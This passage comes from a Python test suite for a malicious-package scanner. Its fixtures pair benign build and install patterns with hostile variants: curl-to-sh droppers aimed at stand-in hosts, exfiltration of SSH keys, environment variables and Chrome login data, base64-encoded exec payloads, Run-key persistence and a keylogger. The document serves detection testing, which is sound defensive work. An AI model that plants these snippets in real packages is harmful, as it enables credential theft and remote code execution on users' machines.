            "exec_('''def reraise(tp, value, tb=None):\n    raise tp.with_traceback(tb)\n''')",
            "import base64\nexec_(base64.b64decode('cHJpbnQoMSk='))"),
        "helperlib/hooks.py": ("WEBHOOK_URL = 'https://hooks.slack.com/services/T04B1K9GQ/B05C2LZ8RT/"
                               "kq3Vh8XbP2mZt7LwN4rJd9Ys'\nimport requests\nrequests.post(WEBHOOK_URL, json={})\n"),
        "helperlib/init.py": files["helperlib/init.py"].replace("open('pyvenv.cfg', 'w').write('home = /usr')",
                                                                "open('run.sh', 'wb').write(s.recv(65536))"),
    }
    for rel, code in bad.items():
        pkg = sdist("helperlib", "0.1", {**base, "helperlib/__init__.py": f"from . import {rel[10:-3]}\n", rel: code})
        assert verdict(pkg)[0] != "clean", rel
    runs = "#!/bin/sh\nsudo systemctl enable --now helperlib\n"
    facts = facts_of(sdist("helperlib", "0.1", {**base, "packaging/build_deb.sh": runs}))
    assert [s for s in facts.signals if s.kind == "persist.startup"]


def test_a_long_fluent_chain_is_resolved_in_linear_work(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoosh's Russian stemmer chains 66 ``.replace()`` calls; resolving each link's callee twice doubled
    the work per link and the scan never finished. The number of resolutions now grows linearly."""
    from chainwatch.packages.pyscan import PyScanner

    calls = {"n": 0}
    real = PyScanner._resolve

    def counting(self: PyScanner, node: object) -> str | None:
        calls["n"] += 1
        return real(self, node)  # type: ignore[arg-type]

    monkeypatch.setattr(PyScanner, "_resolve", counting)
    links = 40
    chain = "word" + "".join(f".replace('{i}', 'x')" for i in range(links))
    code = f"import os\n\ndef roman(word):\n    word = ({chain})\n    return word\n\nos.environ.get('HOME')\n"
    PyScanner("pkg/russian.py", code, "import").scan()
    assert calls["n"] < 50 * links


def test_analysis_time_budget_skips_the_remaining_files(monkeypatch: pytest.MonkeyPatch) -> None:
    """Once a package's analysis has used its wall-clock budget, the remaining code files are not analysed
    and each is named in ``skipped``, so one pathological file cannot hold a vet or an evaluation run."""
    from chainwatch.packages import analyze

    pkg = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "import os\nos.system('id')\n"})
    assert not [s for s in facts_of(pkg).skipped if "time budget" in s]
    monkeypatch.setattr(analyze, "MAX_ANALYSIS_SECONDS", -1.0)
    facts = facts_of(pkg)
    assert any(s.startswith("helperlib/__init__.py: analysis time budget") for s in facts.skipped)
    assert not [s for s in facts.signals if s.file == "helperlib/__init__.py"]


def test_tenth_held_out_batch_shapes() -> None:
    """Causes behind the tenth held-out batch's false positives: a method named like a module function
    (``re.search`` at import made an API client's ``search`` method run at import: firecrawl), a thread's
    ``start()`` taken for a class's own ``start`` (g4f), ``exec`` of the ``__version__`` line picked with
    ``next()`` (dm-tree), a source build that fetches a tarball and runs ``cmake`` with arguments built at
    run time (pyorc), buildout's bootstrap.py that nothing installs (circus) and a hotkey hook for one key
    read as a keylogger (gamesentenceminer)."""
    client = ("import os, re, requests\n\ndef get_version():\n"
              "    m = re.search(r'__version__ = (.*)', open(os.path.join(os.path.dirname(__file__), "
              "'__init__.py')).read())\n    return m.group(1) if m else None\n\nversion = get_version()\n\n"
              "class App:\n    def __init__(self, api_key=None):\n"
              "        self.api_key = api_key or os.getenv('SERVICE_API_KEY')\n\n"
              "    def search(self, query):\n"
              "        return requests.post('https://api.example.org/v1/search', json={'q': query},\n"
              "                             headers={'Authorization': f'Bearer {self.api_key}'})\n")
    browser = ("import atexit, subprocess, threading, urllib.request\n\n"
               "def _download(path):\n    urllib.request.urlretrieve('https://example.org/browser', path)\n\n"
               "def shared_browser(path):\n    _download(path)\n    return subprocess.Popen([path, '--headless'])\n\n"
               "class Session:\n    def start(self):\n        self.proc = shared_browser('/tmp/b')\n\n"
               "def _close():\n    t = threading.Thread(target=print)\n    t.start()\n"
               "    threading.Timer(1, print).start()\n\natexit.register(_close)\n")
    setup = ("import os, setuptools\n\ndef _get_version():\n"
             "    with open(os.path.join('helperlib', '__init__.py')) as f:\n"
             "        version_line = next(line for line in f if line.startswith('__version__'))\n"
             "        ns = {}\n        exec(version_line, ns)\n        return ns['__version__']\n\n"
             "setuptools.setup(name='helperlib', version=_get_version(), packages=['helperlib'])\n")
    build = ("import io, os, subprocess, tarfile, urllib.request\nfrom setuptools import setup\n"
             "from setuptools.command.build_ext import build_ext\n\nclass BuildExt(build_ext):\n"
             "    def _download_source(self):\n        buf = io.BytesIO()\n"
             "        with urllib.request.urlopen('https://archive.apache.org/dist/orc/orc-2.3.1.tar.gz') as src:\n"
             "            buf.write(src.read())\n        buf.seek(0)\n"
             "        tarfile.open(fileobj=buf, mode='r:gz').extractall('deps')\n\n"
             "    def _build_with_cmake(self):\n        args = ['-DBUILD_JAVA=OFF']\n"
             "        if os.getenv('DEBUG'):\n            args.append('-DCMAKE_BUILD_TYPE=DEBUG')\n"
             "        cmake_cmd = ['cmake', '..'] + args\n"
             "        subprocess.check_call(cmake_cmd, cwd='deps/build')\n\n"
             "    def run(self):\n        self._download_source()\n        self._build_with_cmake()\n"
             "        super().run()\n\nsetup(name='helperlib', version='0.1', packages=['helperlib'],\n"
             "      cmdclass={'build_ext': BuildExt})\n")
    bootstrap = ("import os, sys\nfrom urllib.request import urlopen\n\ndef use_distribute():\n    ez = {}\n"
                 "    exec(urlopen('http://python-distribute.org/distribute_setup.py').read(), ez)\n"
                 "    ez['use_setuptools'](to_dir='.', download_delay=0)\n\nif __name__ == '__main__':\n"
                 "    use_distribute()\n")
    hotkeys = ("import keyboard, mss\nfrom PIL import ImageGrab\n\ndef register(key, callback):\n"
               "    return keyboard.on_press_key(key, lambda _: callback())\n\n"
               "def grab():\n    with mss.mss() as sct:\n        shot = sct.grab(sct.monitors[0])\n"
               "    return shot, ImageGrab.grabclipboard()\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "__version__ = '0.1'\n"}
    cases: list[dict[str, str]] = [
        {"helperlib/__init__.py": "__version__ = '0.1'\nfrom . import client\n", "helperlib/client.py": client},
        {"helperlib/__init__.py": "from . import browser\n", "helperlib/browser.py": browser},
        {"setup.py": setup}, {"setup.py": build}, {"bootstrap.py": bootstrap},
        {"helperlib/__init__.py": "", "helperlib/hotkey.py": hotkeys},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # the same shapes that do run, send or record are still judged: the method called on an instance made
    # at import, the thread's target that downloads and runs, the exec of a line fetched from the network,
    # a build that runs the program it downloaded, the bootstrap that setup.py imports, a hook on every key
    bad: list[dict[str, str]] = [
        {"helperlib/__init__.py": "from . import client\n",
         "helperlib/client.py": client + "\nApp().search('x')\n"},
        {"helperlib/__init__.py": "from . import browser\n",
         "helperlib/browser.py": browser + "\ns = Session()\ns.start()\n"},
        {"setup.py": setup.replace(
            "with open(os.path.join('helperlib', '__init__.py')) as f:",
            "import urllib.request\n    with urllib.request.urlopen('http://x.example/v') as f:")},
        {"setup.py": build.replace("cmake_cmd = ['cmake', '..'] + args", "cmake_cmd = ['deps/orc/bin/tool'] + args")},
        {"bootstrap.py": bootstrap, "setup.py": "import bootstrap\n" + _SETUP},
        {"helperlib/__init__.py": "from . import hotkey\n",
         "helperlib/hotkey.py": hotkeys.replace("keyboard.on_press_key(key, ", "keyboard.on_press(") +
         "\nimport requests\nrequests.post('https://x.example/k', data=str(grab()))\n"},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", sorted(files)


def test_bound_methods_handed_to_threads_run_with_their_caller() -> None:
    """A grabber made at import starts its stealers as threads from a tuple of bound methods (Blank
    Grabber's ``for func in (self.StealBrowserData, ...): Thread(target=func).start()``): the methods run at
    import. Before, they were reached only by accident, through ``subprocess.run`` naming a local ``run``."""
    grabber = ("import os, shutil, requests\nfrom threading import Thread\n\nclass Grabber:\n"
               "    def __init__(self):\n        threads = []\n"
               "        for func in (self.steal_browsers, self.system_info):\n"
               "            t = Thread(target=func)\n            t.start()\n            threads.append(t)\n\n"
               "    def system_info(self):\n        return os.getlogin()\n\n"
               "    def steal_browsers(self):\n"
               "        src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',"
               " 'Login Data')\n        shutil.copy(src, 'ld.db')\n"
               "        requests.post('https://collector.example.org/upload', files={'f': open('ld.db', 'rb')})\n\n"
               "Grabber()\n")
    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from . import grab\n",
                                                "helperlib/grab.py": grabber}))
    steals = [s for s in facts.signals if s.kind == "source.credential-file" and s.file == "helperlib/grab.py"]
    assert steals and all(s.phase == "import" for s in steals), [(s.kind, s.phase) for s in steals]


def test_eleventh_held_out_batch_shapes() -> None:
    """Causes behind the eleventh held-out batch's false positives: an SSH client loading known_hosts
    (apache-airflow-providers-ssh), a .pth hook that evaluates what the user put in an environment variable
    (manhole), exec of a version file read through a helper function (pyfcm), CMake's installer fetched
    from Kitware's releases and run by the build (ntgcalls), and deployment scripts that enable a systemd
    timer (omnibase-infra)."""
    ssh = ("import os, paramiko\n\ndef client(host):\n    c = paramiko.SSHClient()\n"
           "    known_hosts = os.path.expanduser('~/.ssh/known_hosts')\n    c.load_host_keys(known_hosts)\n"
           "    c.connect(host)\n    return c\n")
    pth = ("import os, sys;exec('if \"HELPERLIB_HOOK\" in os.environ:\\n try:\\n  from helperlib import install\\n"
           "  eval(\"install({0[HELPERLIB_HOOK]})\".format(os.environ))\\n except Exception as exc:\\n"
           "  sys.stderr.write(\"hook failed: %r\\\\n\" % exc)\\n')\n")
    helper = ("import os\nfrom setuptools import setup\n\ndef read(fname):\n"
              "    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nmeta = {}\n"
              "exec(read('helperlib/__meta__.py'), meta)\nsetup(name='helperlib', version=meta['__version__'],"
              " packages=['helperlib'])\n")
    cmake = ("import platform, subprocess\nfrom pathlib import Path\nfrom urllib.request import urlopen\n"
             "from setuptools import setup\n\ndef install_cmake(version):\n    prefix = Path('build_tools')\n"
             "    arch = platform.machine()\n"
             "    url = f'https://github.com/Kitware/CMake/releases/download/v{version}/cmake-{version}-linux-{arch}.sh'\n"
             "    script = Path(prefix, 'install_cmake.sh')\n    with urlopen(url) as response:\n"
             "        with open(script, 'wb') as f:\n            f.write(response.read())\n"
             "    subprocess.run(['bash', script, '--skip-license', f'--prefix={prefix}'], check=True)\n\n"
             "install_cmake('3.31.6')\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n")
    deploy = ("#!/bin/bash\nset -euo pipefail\nsudo install -m 0644 watchdog.timer /etc/systemd/system/watchdog.timer\n"
              "sudo systemctl enable --now watchdog.timer\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/__meta__.py": "__version__ = '0.1'\n"}
    cases: list[dict[str, str]] = [
        {"helperlib/__init__.py": "from . import ssh\n", "helperlib/ssh.py": ssh},
        {"src/helperlib.pth": pth}, {"setup.py": helper}, {"setup.py": cmake},
        {"deploy/install-watchdog.sh": deploy},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # sending the user's SSH files, a .pth that evaluates a fetched text, a helper that reads from the
    # network, a build that fetches its "toolchain" from anywhere else, and a deploy script setup.py runs
    bad: list[dict[str, str]] = [
        {"helperlib/__init__.py": "from . import ssh\n",
         "helperlib/ssh.py": ssh + "\nimport requests\nrequests.post('https://x.example/k', "
                                   "data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"},
        {"src/helperlib.pth": "import urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\n"},
        {"setup.py": helper.replace(
            "open(os.path.join(os.path.dirname(__file__), fname)).read()",
            "__import__('urllib.request').request.urlopen('http://x.example/' + fname).read()")},
        {"setup.py": cmake.replace("https://github.com/Kitware/CMake/releases/download/",
                                   "https://github.com/cmake-mirror/tools/releases/download/")},
        {"deploy/install-watchdog.sh": deploy,
         "setup.py": "import subprocess\nsubprocess.call(['bash', 'deploy/install-watchdog.sh'])\n" + _SETUP},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_twelfth_held_out_batch_shapes() -> None:
    """Causes behind the twelfth held-out batch's false positives: a registry-backed settings store whose
    keys are parameters (py-key-value-aio, arsenic), a Telegram bot library's API base address as a default
    (python-telegram-bot, aiogram), the version ``eval``-ed from a line of a C header (xxtea), and a file
    with PEP 701 f-strings (Python 3.12) that went to the text fallback, where an ``eval`` and an unrelated
    ``b64decode`` import read as exec of decoded data (cmk-werk-zeug)."""
    store = ("import winreg\n\ndef set_value(hive, sub_key, value_name, value):\n"
             "    key = winreg.CreateKey(hive, sub_key)\n"
             "    winreg.SetValueEx(key, value_name, 0, winreg.REG_SZ, value)\n")
    bot = ("class Bot:\n    def __init__(self, token: str, base_url: str = 'https://api.telegram.org/bot',\n"
           "                 base_file_url: str = 'https://api.telegram.org/file/bot'):\n"
           "        self.base_url = base_url + token\n\nPRODUCTION = dict(base='https://api.telegram.org/bot{token}/"
           "{method}')\n")
    setup = ("from setuptools import setup\n\nwith open('helperlib.c') as f:\n    for line in f:\n"
             "        if line.startswith('#define VERSION '):\n            VERSION = eval(line.rsplit(None, 1)[-1])\n\n"
             "setup(name='helperlib', version=VERSION, packages=['helperlib'])\n")
    modern = ("import re\nfrom base64 import b64decode\n\ntype Data = str | int | list[Data]\n\n"
              "def evaluate(code, ns):\n    return eval(code, ns)  # the feature\n\n"
              "def name_of(stem, suffix):\n    return f\"{stem}.{re.sub(r'[^\\w.-]', '_', suffix)}\"\n\n"
              "def label(d):\n    return f\"{d[\"name\"]}: {d[\"value\"]}\"\n\n"
              "def raw(info):\n    return b64decode(info.get('local_vars') or '').decode()\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib.c": '#define VERSION "0.1"\n'}
    cases: list[dict[str, str]] = [
        {"helperlib/__init__.py": "from . import store\n", "helperlib/store.py": store},
        {"helperlib/__init__.py": "from . import bot\n", "helperlib/bot.py": bot},
        {"setup.py": setup},
        {"helperlib/__init__.py": "from . import modern\n", "helperlib/modern.py": modern},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    facts = facts_of(sdist("helperlib", "0.1", {**base, **cases[3]}))
    recovered = [s for s in facts.signals if s.file == "helperlib/modern.py" and s.detail.get("recovered")]
    assert recovered and not [s for s in facts.signals if s.kind == "code.unparsable"]
    # the Run key written at import, the bot address a file posts to, a version line from the network, and
    # exec of decoded data in a 3.12 file (parsed after the rewrite, or on one line in the text fallback)
    bad: list[dict[str, str]] = [
        {"helperlib/__init__.py": "from . import store\n",
         "helperlib/store.py": store + "\nimport sys\nset_value(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft"
                                       "\\Windows\\CurrentVersion\\Run', 'upd', sys.executable)\n"},
        {"helperlib/__init__.py": "from . import bot\n",
         "helperlib/bot.py": bot + "\nimport os, requests\nrequests.post(PRODUCTION['base'].format(token=os.getenv("
                                   "'TG'), method='sendMessage'), data={'text': str(os.environ)})\n"},
        {"setup.py": setup.replace("with open('helperlib.c') as f:",
                                   "import urllib.request\nwith urllib.request.urlopen('http://x.example/v') as f:")},
        {"helperlib/__init__.py": "from . import modern\n",
         "helperlib/modern.py": modern + "\nexec(b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n"},
        {"helperlib/__init__.py": "from . import broken\n",
         "helperlib/broken.py": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=='))\n"
                                "def f(:\n    pass\n"},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_thirteenth_held_out_batch_shapes() -> None:
    """Causes behind three of the thirteenth held-out batch's false positives: a build hook run from its
    shipped path with ``runpy.run_path`` (charset-normalizer, skypilot-nightly), a version module compiled
    with a filename taken from a module object while another function reuses the name ``source`` for a
    Path (pyerfa), and ``cv2.VideoCapture`` playing a video file or stream (mavproxy)."""
    runpath = ("from pathlib import Path\nfrom runpy import run_path\nfrom setuptools import setup\n\n"
               "hook = Path(__file__).parent / 'build_hooks' / 'pgo_hook.py'\ncmdclass = {}\nif hook.exists():\n"
               "    cmdclass['build_ext'] = run_path(str(hook))['PGOBuildExt']\n"
               "setup(name='helperlib', version='0.1', packages=['helperlib'], cmdclass=cmdclass)\n")
    compiled = ("import pathlib, types\nfrom setuptools import setup\n\ndef norm(source):\n"
                "    source = pathlib.Path(source)\n    return source\n\n"
                "with open('helperlib/_version_src.py') as fd:\n    source = fd.read()\n"
                "mod = types.ModuleType('v')\nmod.__file__ = 'helperlib/_version_src.py'\n"
                "code = compile(source, mod.__file__, 'exec')\nexec(code, mod.__dict__)\n"
                "setup(name='helperlib', version=mod.__dict__.get('v', '0.1'), packages=['helperlib'])\n")
    video = ("import cv2\n\ndef frames(filename, url):\n"
             "    for src in (cv2.VideoCapture(filename), cv2.VideoCapture(url), cv2.VideoCapture('clip.mp4')):\n"
             "        yield src.read()\n")
    grab = ("import pyaudio\n\ndef record():\n    return pyaudio.PyAudio().open(format=8, channels=1, rate=16000,"
            " input=True)\n")
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/_version_src.py": "v = '0.1'\n",
            "build_hooks/pgo_hook.py": "class PGOBuildExt: pass\n"}
    cases: list[dict[str, str]] = [
        {"setup.py": runpath}, {"setup.py": compiled},
        {"helperlib/__init__.py": "", "helperlib/video.py": video + grab},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # a fetched script run with run_path, compile of fetched text, and a camera opened by its index beside
    # the microphone are still judged
    bad: list[dict[str, str]] = [
        {"setup.py": runpath.replace("if hook.exists():", "import urllib.request\nurllib.request.urlretrieve("
                                     "'http://x.example/h.py', str(hook))\nif hook.exists():")},
        {"setup.py": compiled.replace(
            "with open('helperlib/_version_src.py') as fd:",
            "import urllib.request\nwith urllib.request.urlopen('http://x.example/v') as fd:")},
        {"helperlib/video.py": video.replace("cv2.VideoCapture(filename)", "cv2.VideoCapture(0)") + grab},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_fourteenth_and_fifteenth_held_out_batch_version_readers() -> None:
    """Causes behind five of batches 14-15's false positives (all bare ``install-exec``): setup.py reads its
    version line in a loop over a ``Path(...).open()`` file (sphinx-last-updated-by-git), from tokens
    unpacked off ``tokenize`` (f90nml), from ``filter`` over an opened file (imgui), runs a shipped script
    through ``compile(Path(p).read_text())`` (apsw), or calls its own function named ``execfile``
    (IPython)."""
    tail = "setup(name='helperlib', version=__version__, packages=['helperlib'])\n"
    loop = ("from pathlib import Path\nfrom setuptools import setup\n__version__ = 'x'\n"
            "with Path('helperlib/__init__.py').open() as f:\n    for line in f:\n"
            "        if line.startswith('__version__'):\n            exec(line)\n            break\n" + tail)
    tokens = ("import os, tokenize\nfrom setuptools import setup\n"
              "with open(os.path.join('helperlib', '__init__.py'), 'rb') as fh:\n"
              "    tokens = tokenize.tokenize(fh.readline)\n    for kind, text, _, _, _ in tokens:\n"
              "        if kind == tokenize.NAME and text == '__version__':\n"
              "            next(tokens)\n            kind, text, _, _, _ = next(tokens)\n"
              "            __version__ = eval(text)\n            break\n" + tail)
    filtered = ("import os\nfrom setuptools import setup\ndef as_text(t):\n    return '.'.join(map(str, t))\n"
                "init = os.path.join(os.path.dirname(__file__), 'helperlib', '__init__.py')\n"
                "line = list(filter(lambda l: l.startswith('VERSION'), open(init)))[0]\n"
                "__version__ = as_text(eval(line.split('=')[-1]))\n" + tail)
    compiled = ("import pathlib, types\nfrom setuptools import setup\n__version__ = '0.1'\n"
                "vend = types.ModuleType('vend')\nexec(compile(pathlib.Path('tools/vend.py').read_text('utf8'), "
                "'tools/vend.py', 'exec'), vend.__dict__)\n" + tail)
    own_execfile = ("from pathlib import Path\nfrom setuptools import setup\nroot = Path(__file__).resolve().parent\n"
                    "def execfile(path, globs):\n    with path.open(encoding='utf-8') as f:\n"
                    "        exec(compile(f.read(), str(path), 'exec'), globs)\n"
                    "execfile(Path(root, 'helperlib', 'release.py'), globals())\n__version__ = version\n" + tail)
    base = {"helperlib/__init__.py": "__version__ = '0.1'\nVERSION = (0, 1)\n",
            "helperlib/release.py": "version = '0.1'\n", "tools/vend.py": "def do_build():\n    return 1\n"}
    for setup_py in (loop, tokens, filtered, compiled, own_execfile):
        result, findings = verdict(sdist("helperlib", "0.1", {**base, "setup.py": setup_py}))
        assert result == "clean", (setup_py, findings)
    # the same shapes over fetched text, a shipped script that does harm, and an own execfile that runs
    # decoded data are still judged
    fetch = "import urllib.request\n"
    bad: list[dict[str, str]] = [
        {"setup.py": fetch + loop.replace("with Path('helperlib/__init__.py').open() as f:",
                                          "with urllib.request.urlopen('http://x.example/v') as f:")},
        {"setup.py": fetch + tokens.replace("open(os.path.join('helperlib', '__init__.py'), 'rb')",
                                            "urllib.request.urlopen('http://x.example/v')")},
        {"setup.py": fetch + filtered.replace("open(init)", "urllib.request.urlopen('http://x.example/v')")},
        {"setup.py": compiled, "tools/vend.py": "import os\nos.system('curl http://x.example/a | sh')\n"},
        {"setup.py": own_execfile.replace("exec(compile(f.read(), str(path), 'exec'), globs)",
                                          "exec(__import__('base64').b64decode(f.read()), globs)")},
        # a method named exec does not shadow the builtin for a bare call
        {"setup.py": "import sys\nfrom setuptools import setup\nclass Loader:\n    def exec(self, code):\n"
                     "        return code\nexec(sys.argv[-1])\n" + tail.replace("__version__", "'0.1'")},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (files, findings)


def test_sixteenth_held_out_batch_shapes() -> None:
    """Causes behind the sixteenth held-out batch's first-sight false positives: a build reading
    ``os.uname()[0]`` and ``[4]`` as host identity beside a URL opener (pyuwsgi); ``curl-config --libs`` read
    as curl and ``git fetch`` of the project's repository as a suspicious command (pybigwig, vllm-tpu); a
    build that fetches wheel metadata, downloads a prebuilt wheel and, in other functions, runs ``curl`` for
    JSON, ``nvcc -V`` under ``CUDA_HOME`` and ``git diff`` from a starred list (vllm-tpu); ``AWS_REGION`` in a
    host name read as a secret (lumigo-tracer); a hatch hook compiling ``path.read_bytes()`` of a shipped
    module (policyengine-uk)."""
    uname = ("import os, re, urllib.request\nfrom setuptools import setup\nuname_os = os.uname()[0]\n"
             "uname_cpu = os.uname()[4]\nrelease = re.split('[-+_]', os.uname()[2])[0]\n"
             "def open_profile(filename):\n    if filename.startswith('http'):\n"
             "        return urllib.request.urlopen(filename)\n    return open(filename)\n"
             "open_profile(os.environ.get('PROFILE', 'buildconf/base.ini'))\n" + _SETUP)
    tools = ("import os, subprocess\nfrom setuptools import setup\n"
             "libs = subprocess.Popen(['curl-config', '--libs'], stdout=subprocess.PIPE).communicate()[0]\n"
             "subprocess.check_call(['git', 'fetch', 'https://github.com/helperlib/helperlib', 'main'])\n" + _SETUP)
    prebuilt = ("import json, os, subprocess, tempfile\nfrom urllib.request import urlopen, urlretrieve\n"
                "from setuptools import setup\nCUDA_HOME = os.environ.get('CUDA_HOME', '/usr/local/cuda')\n"
                "def metadata(commit):\n"
                "    with urlopen(f'https://wheels.helperlib.example/{commit}/meta.json') as r:\n"
                "        return json.loads(r.read())\n"
                "def fetch_wheel(url):\n    path = os.path.join(tempfile.mkdtemp(), url.split('/')[-1])\n"
                "    urlretrieve(url, filename=path)\n    return path\n"
                "def base_commit():\n    cmd = ['curl', '-s', 'https://api.github.com/repos/helperlib/helperlib/commits/main']\n"
                "    return json.loads(subprocess.check_output(cmd))['sha']\n"
                "def nvcc_version():\n    return subprocess.check_output([CUDA_HOME + '/bin/nvcc', '-V'])\n"
                "def changed(commit, paths):\n    diff = ['git', 'diff', '--name-only', commit, '--']\n"
                "    return subprocess.check_output([*diff, *paths], text=True)\n"
                "wheels = metadata(base_commit())\nfetch_wheel(wheels['url'])\nnvcc_version()\n"
                "changed('HEAD', ['csrc'])\n" + _SETUP)
    region = ("import http.client, os\nREGION = os.environ.get('AWS_REGION', 'us-east-1')\n"
              "def connection():\n"
              "    return http.client.HTTPSConnection(f'{REGION}.edge.helperlib.example', timeout=2)\n"
              "connection()\n")
    hook = ("from pathlib import Path\nfrom types import ModuleType\n"
            "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            "def load(root):\n    path = root / 'helperlib' / 'build_metadata.py'\n"
            "    module = ModuleType('meta')\n    code = compile(path.read_bytes(), str(path), 'exec')\n"
            "    exec(code, module.__dict__)\n    return module\n"
            "class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):\n"
            "        load(Path(self.root))\n")
    hatch = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
             '[project]\nname = "helperlib"\nversion = "0.1"\n'
             '[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')
    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/build_metadata.py": "SHA = 'abc'\n"}
    cases: list[dict[str, str]] = [
        {"setup.py": uname}, {"setup.py": tools}, {"setup.py": prebuilt}, {"helperlib/__init__.py": region},
        {"pyproject.toml": hatch, "hatch_build.py": hook},
    ]
    for files in cases:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result == "clean", (sorted(files), findings)
    # the host's name sent out, curl and a chained git clone run as commands, the downloaded file run, a
    # secret key in the host name and compiled fetched text are still judged
    bad: list[dict[str, str]] = [
        {"setup.py": uname.replace("urllib.request.urlopen(filename)",
                                   "urllib.request.urlopen(filename + os.uname()[1])")},
        {"setup.py": tools.replace("'curl-config', '--libs'", "'curl', 'http://x.example/a', '-o', 'a'")},
        {"setup.py": tools.replace("subprocess.check_call(['git', 'fetch', 'https://github.com/helperlib/helperlib',"
                                   " 'main'])", "os.system('git clone https://x.example/r && sh r/run.sh')")},
        {"setup.py": prebuilt.replace("fetch_wheel(wheels['url'])",
                                      "subprocess.check_call([fetch_wheel(wheels['url'])])")},
        {"helperlib/__init__.py": region.replace("AWS_REGION', 'us-east-1'", "AWS_SECRET_ACCESS_KEY', ''")},
        {"pyproject.toml": hatch, "hatch_build.py": hook.replace(
            "compile(path.read_bytes(), str(path), 'exec')",
            "compile(__import__('urllib.request').request.urlopen('http://x.example/c').read(), 'c', 'exec')")},
    ]
    for files in bad:
        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
        assert result != "clean", (sorted(files), findings)


def test_a_shipped_module_executed_as_text_runs_in_the_phase_of_its_exec() -> None:
    """``exec(open("tools/vend.py").read())`` in setup.py runs a maintainer's script at install, though
    nothing imports it: its code is judged as install code (it had only the text pass of maintainers'
    scripts). ``exec(IMPL_PATH.read_text())`` in ``__init__`` runs a shipped module, not dynamic code."""
    dropper = "import os\nos.system('curl -s http://x.example/a | sh')\n"
    setup_py = "from setuptools import setup\nexec(open('tools/vend.py').read())\n" + _SETUP
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup_py, "helperlib/__init__.py": "",
                                                          "tools/vend.py": dropper}))
    assert result == "malicious", findings
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup_py, "helperlib/__init__.py": "",
                                                          "tools/vend.py": "VERSION = '0.1'\n"}))
    assert result == "clean", findings
    stealer = ("import os, urllib.request\ndata = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
               "urllib.request.urlopen('http://x.example/c', data=data.encode())\n")
    init = ("from pathlib import Path\nIMPL_PATH = Path(__file__).parent / 'impl.py'\n"
            "IMPL = IMPL_PATH.read_text()\nexec(IMPL, globals())\n")
    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init,
                                                "helperlib/impl.py": stealer}))
    found = {(s.file, s.kind, s.phase) for s in facts.signals}
    assert ("helperlib/impl.py", sg.EXFIL_FLOW, "import") in found, found
    assert not any(kind == sg.EXEC_DYNAMIC for _, kind, _ in found), found
    # setup.py that evals only the version line of a module (pickleshare) does not run the module: the
    # module's own run-time eval stays run-time; exec of the whole module text runs it at install
    module = "import sys\n__version__ = '0.1'\ndef load(cont):\n    return eval(cont)\nload(sys.argv[-1])\n"
    line_reader = ("from setuptools import setup\nwith open('store.py') as f:\n    for line in f:\n"
                   "        if line.startswith('__version__'):\n"
                   "            version = eval(line.split('=', 1)[1])\n            break\n" + _SETUP)
    files = {"setup.py": line_reader, "helperlib/__init__.py": "", "store.py": module}
    result, findings = verdict(sdist("helperlib", "0.1", files))
    assert result == "clean", findings
    whole = {**files, "setup.py": "from setuptools import setup\nexec(open('store.py').read())\n" + _SETUP}
    result, findings = verdict(sdist("helperlib", "0.1", whole))
    assert "package.install-exec:high" in findings, findings


def test_seventeenth_held_out_batch_shapes() -> None:
    """Causes behind the seventeenth held-out batch's first-sight false positives: a release script whose
    builders sit in a dispatch table that only its ``__main__`` block calls (marin-dupekit), and a build
    machine's provisioning code, which disables Defender, in a folder of the source tree that the build
    does not install (mercurial's ``contrib/automation``)."""
    release = ("import subprocess, urllib.request\nfrom pathlib import Path\n"
               "def ensure_tool(url):\n    path = Path('.tools') / 'tool.tar.xz'\n"
               "    urllib.request.urlretrieve(url, path)\n    return str(path)\n"
               "def run_tool(*args):\n    subprocess.run([ensure_tool('https://tools.example/t'), *args], check=True)\n"
               "def build_linux():\n    run_tool('build')\n"
               "BUILDERS = {'linux': build_linux}\n"
